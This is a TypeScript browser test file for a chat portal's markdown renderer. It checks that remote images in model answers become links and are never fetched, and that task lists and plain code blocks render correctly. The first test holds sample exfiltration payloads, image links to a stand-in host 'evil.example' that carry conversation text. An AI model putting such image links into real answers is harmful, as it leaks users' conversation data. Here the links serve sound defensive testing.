import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import { chromiumForThisFile, newPage } from '../support/browser';

// Issue 11 item 8 (portal side): remote images in model answers are not loaded, they render as a link.
const browser = chromiumForThisFile();
const engine = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'web', 'src', 'app', 'shared', 'markdown', 'markdown-engine.ts');

test('remote images in an answer become links and are never fetched; data: images stay', async () => {
  // The portal's own renderer, bundled as is and run in Chromium's DOM.
  const bundle = await build({ entryPoints: [engine], bundle: true, format: 'iife', globalName: 'sbMarkdown', write: false, logLevel: 'silent' });
  const { context, page } = await newPage(browser());
  const requested: string[] = [];
  page.on('request', (r) => requested.push(r.url()));
  // A blank document of our own: the portal's CSP (rightly) refuses an injected inline script.
  await page.setContent('<!doctype html><html><body></body></html>');
  await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
  const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
  const html = await page.evaluate((pixel) => {
    const { renderMarkdown } = (window as unknown as { sbMarkdown: { renderMarkdown: (s: string) => string } }).sbMarkdown;
    const out = renderMarkdown(`Here:\n\n![the secret](https://evil.example/leak.png?q=conversation-text)\n\n<img src="//evil.example/x.gif">\n\n![ok](${pixel})`);
    const holder = document.createElement('div');
    holder.innerHTML = out;
    document.body.appendChild(holder);
    return out;
  }, pixel);
  expect(html).not.toMatch(/<img[^>]+evil\.example/);
  expect(html).toMatch(/<a href="https:\/\/evil\.example\/leak\.png\?q=conversation-text"[^>]*>the secret<\/a>/);
  expect(html).toMatch(/<img[^>]+src="data:image\/png/);
  expect(requested.filter((u) => u.includes('evil.example'))).toEqual([]);
  await context.close();
});

test('task lists show their checkboxes; a block without a language is plain text, not coloured code', async () => {
  const bundle = await build({ entryPoints: [engine], bundle: true, format: 'iife', globalName: 'sbMarkdown', write: false, logLevel: 'silent' });
  const { context, page } = await newPage(browser());
  // A blank document of our own: the portal's CSP (rightly) refuses an injected inline script.
  await page.setContent('<!doctype html><html><body></body></html>');
  await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
  const result = await page.evaluate(() => {
    const { renderMarkdown } = (window as unknown as { sbMarkdown: { renderMarkdown: (s: string) => string } }).sbMarkdown;
    const holder = document.createElement('div');
    holder.innerHTML = renderMarkdown('- [x] queue moved\n- [ ] workers scaled\n\n```\nplain words if for while\n```\n\n<input type="text" value="x">');
    return {
      boxes: [...holder.querySelectorAll('li input')].map((i) => ({ type: i.getAttribute('type'), checked: (i as HTMLInputElement).checked, disabled: (i as HTMLInputElement).disabled })),
      inputs: holder.querySelectorAll('input').length,
      colouredPlain: holder.querySelectorAll('pre code span[class^="hljs-"]').length,
      plainLang: holder.querySelector('pre')?.getAttribute('data-lang'),
    };
  });
  expect(result.boxes).toEqual([
    { type: 'checkbox', checked: true, disabled: true },
    { type: 'checkbox', checked: false, disabled: true },
  ]);
  expect(result.inputs).toBe(2);
  expect(result.colouredPlain).toBe(0);
  expect(result.plainLang).toBe('text');
  await context.close();
});
